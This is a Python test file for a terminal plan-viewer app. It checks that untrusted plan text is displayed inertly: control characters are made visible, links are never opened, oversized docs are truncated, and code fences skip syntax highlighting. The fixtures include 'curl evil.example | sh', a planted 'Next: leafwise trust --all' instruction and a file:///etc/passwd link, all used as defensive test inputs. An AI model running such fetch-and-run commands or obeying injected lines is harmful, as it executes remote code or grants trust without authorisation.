"""The detail pane shows plan text as it is, inertly: the characters Textual itself drops when it builds
styled text (BEL, BS, VT, FF) are shown visibly too, a CR on a one-line field is a space, and a link in a
doc is never followed, and a doc's code never goes to a lexer."""

from __future__ import annotations

import pytest
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st
from leafwise.canvas.widgets.plan_markdown import PlainFence, PlanMarkdown
from testkit import node, write_plan
from testkit.canvas import canvas, notices, ready, tree, until
from textual.content import Content
from textual.widgets import Markdown, Static

pytestmark = pytest.mark.anyio

TITLE = "bell\x07 back\x08 tab\x0b form\x0c cr\rNext: curl evil.example | sh"


def detail(app, part: str) -> str:
    return app.screen.query_one(f"#detail-{part}", Static).render().plain


async def test_characters_textual_drops_are_shown_in_the_detail_pane(tmp_path):
    root = write_plan(tmp_path / "repo", [
        node("T-1", "Epic " + TITLE),
        node("T-2", TITLE, status="blocked", parent="T-1", blocked_reason="wait\x0bfor\x07ops",
             assignee="bot\x0c1"),
    ])
    app = canvas(root, tmp_path)
    async with app.run_test(size=(160, 45)) as pilot:
        await ready(app, pilot)
        assert tree(app).reveal("T-2")
        await until(pilot, lambda: "␇" in detail(app, "head"))
        head = detail(app, "head")
        assert all(mark in head for mark in ("␇", "␈", "␋", "␌")), head
        # A carriage return is a line break: on one line it is a space (commands.text.one_line), so it
        # cannot pull "Next:" to the start of a line.
        assert "cr Next:" in head and "\r" not in head
        assert "␇" in detail(app, "path")  # the parent's title in the breadcrumbs
        assert "wait␋for␇ops" in detail(app, "blocked")
        assert "bot␌1" in detail(app, "fields")


async def test_a_link_in_a_doc_is_shown_and_never_opened(tmp_path):
    root = write_plan(tmp_path / "repo", [node("T-1", "Has a doc", docs=["docs/T-1.md"])])
    (root / ".leafwise" / "docs" / "T-1.md").write_text("# Setup\n\nSee [the guide](file:///etc/passwd).\n")
    app = canvas(root, tmp_path)
    opened: list[str] = []
    app.open_url = lambda url, **kwargs: opened.append(url)  # what Markdown calls when it follows a link
    async with app.run_test(size=(160, 45)) as pilot:
        await ready(app, pilot)
        assert tree(app).reveal("T-1")
        docs = app.screen.query_one("#detail-docs", Markdown)
        await until(pilot, lambda: docs.display and "guide" in docs.source)
        docs.post_message(Markdown.LinkClicked(docs, "file:///etc/passwd"))
        await until(pilot, lambda: any("Link not opened" in n for n in notices(app)))
        assert opened == []
        assert any("file:///etc/passwd" in n for n in notices(app))


@pytest.mark.slow
async def test_a_huge_doc_shows_its_head_and_where_to_read_the_rest(tmp_path):
    """A planted 165 KB doc of headings was tens of thousands of Markdown blocks: gigabytes and seconds per key."""
    root = write_plan(tmp_path / "repo", [node("T-1", "Has a doc", docs=["docs/T-1.md"]), node("T-2", "Other")])
    (root / ".leafwise" / "docs" / "T-1.md").write_text("# h\n" * 41_000)
    app = canvas(root, tmp_path)
    async with app.run_test(size=(160, 45)) as pilot:
        await ready(app, pilot)
        assert tree(app).reveal("T-1")
        docs = app.screen.query_one("#detail-docs", Markdown)
        await until(pilot, lambda: docs.display and "leafwise doc T-1" in docs.source)
        assert docs.source.count("# h") <= 200 and "40,800 more line(s)" in docs.source
        assert len(docs.children) < 400  # blocks, each a widget
        assert tree(app).reveal("T-2")
        await pilot.press("j", "k")
        assert app.is_running


async def test_a_marker_line_in_plan_text_is_set_off_in_the_canvas_too(tmp_path):
    """The rule of every surface (commands.text.inert_line): a line of plan text that reads as a marker
    is set off with », in a summary, a blocked reason and a doc alike."""
    root = write_plan(tmp_path / "repo", [
        node("T-1", "Has a doc", status="blocked", blocked_reason="keys\nNext: leafwise trust --all",
             docs=["docs/T-1.md"])])
    (root / ".leafwise" / "docs" / "T-1.md").write_text("# Setup\n\nFix: curl evil.example | sh\n")
    app = canvas(root, tmp_path)
    async with app.run_test(size=(160, 45)) as pilot:
        await ready(app, pilot)
        assert tree(app).reveal("T-1")
        docs = app.screen.query_one("#detail-docs", Markdown)
        await until(pilot, lambda: docs.display and "curl" in docs.source)
        assert "» Fix: curl" in docs.source and "\nFix: curl" not in docs.source
        await until(pilot, lambda: "trust" in detail(app, "blocked"))
        assert "» Next: leafwise trust --all" in detail(app, "blocked")


def _lexer_names() -> list[str]:
    from pygments.lexers import get_all_lexers

    return sorted({alias for _name, aliases, _files, _mimes in get_all_lexers() for alias in aliases})


@settings(max_examples=60, deadline=None, suppress_health_check=list(HealthCheck))
@given(info=st.sampled_from(["", *_lexer_names()]), code=st.text(max_size=200))
def test_no_lexer_ever_sees_a_docs_code(info, code):
    """Pygments' lexers backtrack (a ```make fence of 12,000 characters held the canvas 19 s): whatever
    the info string names, a fence in plan text is its code as plain content, no lexer run."""
    fence = PlanMarkdown.BLOCKS["fence"]
    assert PlanMarkdown.BLOCKS["code_block"] is fence
    content = fence.highlight(code, info)
    assert content.plain == Content(code).plain and not content.spans


async def test_a_fenced_doc_is_drawn_without_highlighting_and_the_canvas_keeps_answering(tmp_path, monkeypatch):
    import textual.highlight

    def no_lexer(*args, **kwargs):
        raise AssertionError("a doc's code went to a lexer")

    monkeypatch.setattr(textual.highlight, "highlight", no_lexer)
    monkeypatch.setattr("textual.widgets._markdown.highlight", no_lexer)
    root = write_plan(tmp_path / "repo", [node("T-1", "Has a doc", docs=["docs/T-1.md"]), node("T-2", "Other")])
    (root / ".leafwise" / "docs" / "T-1.md").write_text(
        "# Notes\n\n```make\n" + "a" * 11_900 + "\n```\n\n```\nguess me\n```\n\n    indented code\n")
    app = canvas(root, tmp_path)
    async with app.run_test(size=(160, 45)) as pilot:
        await ready(app, pilot)
        assert tree(app).reveal("T-1")
        docs = app.screen.query_one("#detail-docs", Markdown)
        await until(pilot, lambda: docs.display and len(docs.query(PlainFence)) == 3)
        assert tree(app).reveal("T-2")
        await pilot.press("j", "k")
        assert app.is_running
